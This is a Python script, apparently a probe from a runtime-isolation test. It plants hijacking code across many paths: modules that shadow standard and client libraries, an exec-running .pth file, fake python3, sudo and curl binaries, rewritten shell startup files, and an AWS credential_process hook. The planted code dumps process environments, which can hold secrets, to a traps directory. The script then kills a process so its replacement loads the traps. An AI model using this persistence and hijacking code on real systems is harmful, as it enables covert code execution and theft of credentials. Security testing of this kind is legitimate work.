"""Leaves code wherever a process of the runtime's might pick some up, now or at its next start."""

import os
import sys

from tools import CODE, STATE, found, remember, sync, tell

TRAP = """
import os, sys
def _spring():
    try:
        with open({where!r} + "/sprung-" + str(os.getpid()), "w") as file:
            print({name!r}, sys.argv, dict(os.environ), open("/proc/self/comm").read(), file=file)
            print(open("/proc/self/environ", "rb").read(), file=file)
    except OSError:
        pass
_spring()
"""
MODULES = (
    "sitecustomize",
    "usercustomize",
    "the0",
    "obstore",
    "minio",
    "urllib3",
    "json",
    "encodings",
    "ssl",
    "signal",
    "asyncio",
    "sqlite3",
    "tarfile",
    "main_of_the_runtime",
    "threading",
)
SHELL = "#!/bin/sh\nenv > {where}/sprung-$$\n"
NODE = "require('fs').writeFileSync({where!r} + '/sprung-' + process.pid, JSON.stringify(process.env))\n"


def write(path, text, mode=0o644):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as file:
        file.write(text)
    os.chmod(path, mode)


def main(_, config):
    remember(1)
    where = os.path.join(STATE, "traps")
    os.makedirs(where, exist_ok=True)
    home = os.environ["HOME"]
    user = f"{home}/.local/lib/python{sys.version_info[0]}.{sys.version_info[1]}/site-packages"
    for folder in (CODE, STATE, home, user, f"{CODE}/vendor", f"{STATE}/.the0", config["run_dir"], config["logs"]):
        for name in MODULES:
            if folder in (CODE, f"{CODE}/vendor") and name in ("json", "encodings", "signal", "threading", "ssl"):
                continue  # they would break the bot itself
            write(f"{folder}/{name}.py", TRAP.format(where=where, name=f"{folder}/{name}"))
        trap = TRAP.format(where=where, name=f"{folder}/trap.pth").replace("\n", chr(10))
        write(f"{folder}/trap.pth", f"import sys; exec({trap!r})\n")
        write(f"{folder}/pyvenv.cfg", f"home = {folder}\ninclude-system-site-packages = true\n")
        for program in ("python3", "python3.11", "node", "java", "sh", "curl", "sudo"):
            write(f"{folder}/{program}", SHELL.format(where=where), 0o755)
    for name in (".bashrc", ".profile", ".bash_profile", ".zshrc"):
        write(f"{home}/{name}", f"env > {where}/sprung-$$\n")
    write(f"{home}/.pythonrc", TRAP.format(where=where, name="pythonrc"))
    write(f"{home}/.aws/credentials", "[default]\naws_access_key_id = planted\naws_secret_access_key = planted\n")
    write(f"{home}/.aws/config", f"[default]\ncredential_process = {home}/sh\nregion = nowhere\n")
    write(f"{home}/.netrc", "machine 127.0.0.1 login planted password planted\n", 0o600)
    write(f"{home}/.config/pip/pip.conf", "[global]\nindex-url = http://127.0.0.1:1/\n")
    write(f"{home}/.node_modules/trap.js", NODE.format(where=where))
    os.kill(sync(), 9)  # what takes its place imports everything anew, with all this in place
    found["respawned"] = bool(sync())
    tell()
